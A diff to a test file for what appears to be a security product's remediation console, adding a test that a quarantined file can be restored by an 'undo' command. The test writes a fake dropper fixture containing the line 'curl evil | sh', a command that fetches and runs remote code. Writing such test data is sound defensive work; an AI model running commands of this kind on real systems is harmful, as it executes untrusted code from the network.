@@ -1,5 +1,5 @@
 import { createHash } from 'node:crypto';
-import { mkdir, writeFile } from 'node:fs/promises';
+import { mkdir, readFile, writeFile } from 'node:fs/promises';
 import { join } from 'node:path';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { CommandRecord } from '../../lib/ports/console-desk.ts';
@@ -283,7 +283,20 @@ describe('the ten advanced commands', () => {
   it('undo', async () => {
     const [item] = await printed('windows', 'undo file C:\\Windows\\Temp\\setup.log');
     expect(item).toMatchObject({ restored: true });
-    await refused('linux', 'undo file /etc/hosts', /does not exist on Linux/);
+    await refused('linux', 'undo registry HKLM\\Run', /does not exist on Linux/);
+  });
+
+  it('undo, of a file that the product moved, on every system', async () => {
+    const root = join(house.cloud.home, 'cloud/devices/jump-linux-01/root');
+    await done('linux', 'dir /'); // the device's tree is there from its first use on
+    await writeFile(join(root, 'tmp/dropper.sh'), 'curl evil | sh\n');
+    await done('linux', 'remediate file /tmp/dropper.sh -auto');
+    await expect(readFile(join(root, 'tmp/dropper.sh'))).rejects.toThrow('ENOENT');
+    const [item] = await printed('linux', 'undo file /tmp/dropper.sh');
+    expect(item).toMatchObject({ restored: true, sha256: sha256('curl evil | sh\n') });
+    expect(await readFile(join(root, 'tmp/dropper.sh'), 'utf8')).toBe('curl evil | sh\n');
+    const none = await house.run(consoles.linux, 'undo file /etc/hosts');
+    expect(none).toMatchObject({ state: 'failed' }); // Holdfast never moved it
   });
 });
 
